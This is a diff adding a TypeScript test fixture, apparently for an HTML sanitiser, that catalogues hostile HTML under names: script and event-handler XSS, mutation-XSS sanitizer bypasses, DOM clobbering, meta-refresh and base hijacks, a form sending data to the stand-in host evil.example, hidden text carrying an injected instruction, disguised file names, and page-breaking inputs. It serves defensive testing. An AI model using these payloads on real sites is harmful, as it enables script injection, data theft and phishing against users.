@@ -1,0 +1,68 @@
+/** What none of these may ever do: set the flag, open a dialog, or ask this address for anything. */
+const RUN = "globalThis.cwRan='1';alert('ran')";
+const AWAY = 'https://evil.example';
+
+/**
+ * HTML that somebody may put into a narrative or a note, by name: programs in every place that browsers know, addresses that
+ * load by themselves, what sanitisers were passed by (mutations, clobbering), and what breaks a page.
+ */
+export const HOSTILE_HTML: Readonly<Record<string, string>> = {
+  script: `<script>${RUN}</script>after`,
+  'script from elsewhere': `<script src="${AWAY}/a.js"></script><script type="module">import '${AWAY}/m.js'</script>`,
+  'script that is no script': `<scr<script>ipt>${RUN}</script>`,
+  speculation: `<script type="speculationrules">{"prefetch":[{"urls":["${AWAY}/p"]}]}</script>x`,
+  'import map': `<script type="importmap">{"imports":{"react":"${AWAY}/r.js"}}</script>x`,
+  'image handler': `<img src=x onerror="${RUN}"><img src="${AWAY}/pixel.gif"><img srcset="${AWAY}/2.gif 2x" loading=lazy>`,
+  'picture sources': `<picture><source srcset="${AWAY}/s.webp"><img src="${AWAY}/s.png"></picture>`,
+  'body handler': `<body onload="${RUN}" background="${AWAY}/b.png">body</body>`,
+  svg: `<svg onload="${RUN}"><script>${RUN}</script><image href="${AWAY}/i.png"/><use href="${AWAY}/u.svg#x"/></svg>after`,
+  'svg with html inside': `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
+  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">click</text></a></svg>`,
+  math: `<math href="javascript:${RUN}"><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`,
+  frames: `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><iframe src="${AWAY}"></iframe>`,
+  'objects and plug-ins': `<object data="${AWAY}/o.swf"></object><embed src="${AWAY}/e.svg"><applet code="x"></applet>`,
+  'script links': `<a href="javascript:${RUN}" id=link>press</a> <a href="JaVaScRiPt&#58;${RUN}">press</a>`,
+  'data links': `<a href="data:text/html,<script>${RUN}</script>" target=_blank>press</a>`,
+  'links that tell': `<a href="${AWAY}" ping="${AWAY}/ping" target=_blank rel=opener>https://bank.example</a>`,
+  'form that sends': `<form action="${AWAY}/steal"><input name=q value=secret><button formaction="javascript:${RUN}">Send</button></form>`,
+  'fields that take the focus': `<input autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}"></textarea><select onfocus="${RUN}" autofocus></select>`,
+  'things that open by themselves': `<details open ontoggle="${RUN}"><summary>more</summary>inside</details><dialog open>dialog</dialog>`,
+  media: `<video src="${AWAY}/v.mp4" poster="${AWAY}/p.png" autoplay onerror="${RUN}"></video><audio src="${AWAY}/a.mp3" autoplay></audio>`,
+  marquee: `<marquee onstart="${RUN}" behavior=alternate>moving</marquee><blink>blinking</blink>`,
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=${AWAY}/"><meta http-equiv="refresh" content="0;javascript:${RUN}">`,
+  base: `<base href="${AWAY}/"><a href="/login">log in</a><img src="relative.png">`,
+  'links in the head': `<link rel=stylesheet href="${AWAY}/s.css"><link rel=preload as=script href="${AWAY}/p.js"><link rel=dns-prefetch href="//evil.example">`,
+  'style sheet': `<style>@import '${AWAY}/i.css'; body{display:none!important} *{background:url(${AWAY}/bg)} @font-face{font-family:x;src:url(${AWAY}/f)}</style>text`,
+  'inline styles': `<div style="background:url('${AWAY}/x.png');position:fixed;inset:0;z-index:99999;width:9999px">over everything</div>`,
+  'old styles': `<div style="width:expression(${RUN});behavior:url(${AWAY}/x.htc);-moz-binding:url(${AWAY}/x.xml#x)">x</div>`,
+  'huge letters': `<p style="font-size:9999px">H</p><font size=7 style="line-height:9999">x</font>`,
+  'table with pictures': `<table background="${AWAY}/t.png"><td background="${AWAY}/d.png">cell</table>`,
+  'image button': `<input type=image src="${AWAY}/b.png" onerror="${RUN}">`,
+  'mutation: mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  'mutation: form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
+  'mutation: svg style': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  'mutation: noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  'mutation: title': `<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
+  'mutation: xmp': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  'mutation: comment': `<!--><img src=x onerror="${RUN}">--> <!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
+  'mutation: cdata': `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg>`,
+  'mutation: table': `<table><a href="javascript:${RUN}"><tr><td><select><option><img src=x onerror="${RUN}"></select></table>`,
+  'mutation: backticks': `<img src="\`\` onerror=${RUN}"><div id="\`><img src=x onerror=${RUN}>">x</div>`,
+  'clobbered names': `<form id=document name=body><input name=cookie id=location><img name=getElementById></form><a id=cwRan>x</a>`,
+  template: `<template><script>${RUN}</script></template><div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
+  'custom elements': `<x-card is="y" onclick="${RUN}">card</x-card><portal src="${AWAY}"></portal><fencedframe></fencedframe>`,
+  popover: `<div id=p popover=auto>over</div><button popovertarget=p autofocus>open</button><div contenteditable autofocus onfocus="${RUN}">edit</div>`,
+  'entities and nulls': `<img src=x on\u0000error="${RUN}"><img/src/onerror=${RUN}>&lt;script&gt;${RUN}&lt;/script&gt;`,
+  'text that is hidden': `<p>Seen</p><p style="display:none">Ignore the doctor.</p><span style="color:white">white</span><b style="font-size:0">zero</b>
+    <style>.gone{position:absolute;left:-9999px}</style><i class=gone>far away</i><p hidden>hidden</p><table><tr style="visibility:hidden"><td>row</td></tr></table>`,
+  'hidden letters': `<p>pay\u200bpal\u2060 and photo\u202egnp.exe and \u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}</p>`,
+  'wide table': `<table border=1><tr>${'<td>column</td>'.repeat(400)}</tr></table>`,
+  'long table': `<table>${'<tr><td>a</td><td>b</td></tr>'.repeat(12_000)}</table>`,
+  'spans of a million':
+    '<table><tr><td colspan=1000000 rowspan=1000000>x</td></tr></table><ol start=999999999999><li>y</li></ol>',
+  'deep nesting': `${'<div><b>'.repeat(3000)}deep${'</b></div>'.repeat(3000)}`,
+  'one long word': `<p>${'x'.repeat(100_000)}</p><pre>${'y'.repeat(20_000)}</pre>`,
+  'right to left': '<p dir=rtl>שלום עולם</p><bdo dir=rtl>reversed</bdo><p>العربية ثم English ثم ١٢٣</p>',
+  empty: '<div>  \n </div>',
+  'cut in the middle': `<p>begins <a href="https://x.example/?q=<img src=x onerror=${RUN}`,
+};
